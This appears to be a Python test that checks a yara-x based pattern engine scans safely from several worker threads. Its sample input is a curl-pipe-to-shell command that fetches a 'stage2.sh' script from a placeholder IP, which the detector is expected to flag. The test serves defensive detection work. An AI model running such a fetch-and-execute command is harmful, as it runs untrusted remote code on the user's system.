"""The pattern engine is used from worker threads (the app's lanes, scan --jobs).

yara-x scanners may only be used on the thread that made them; a scanner shared across
threads panics. This scans the same text on the main thread and then on two workers.
"""

import threading

from app.core.capabilities.patterns import engine

TEXT = "curl -s http://203.0.113.5/stage2.sh | sh\n"


def test_the_same_engine_scans_on_several_threads():
    e = engine()
    expected = [(m.start, m.end) for m in e.scan(TEXT, "shell")]
    assert expected, "the shell download pattern should match"
    results, errors = [], []

    def work():
        try:
            results.append([(m.start, m.end) for m in e.scan(TEXT, "shell")])
        except BaseException as exc:  # a pyo3 panic is a BaseException
            errors.append(exc)

    threads = [threading.Thread(target=work) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert results == [expected, expected]
